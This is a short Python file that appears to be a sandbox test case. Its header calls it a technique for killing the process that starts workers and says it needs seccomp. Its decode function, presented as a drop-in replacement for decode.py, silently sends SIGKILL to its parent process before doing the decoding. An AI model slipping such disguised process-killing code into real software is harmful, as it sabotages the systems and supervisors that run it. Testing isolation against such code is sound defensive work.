# technique: kills the process that starts workers
# replaces: decode.py
# expect: nothing lost
# needs: seccomp
import contextlib
import os
import signal


def decode(codes):
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), signal.SIGKILL)
    return "".join(map(chr, codes))
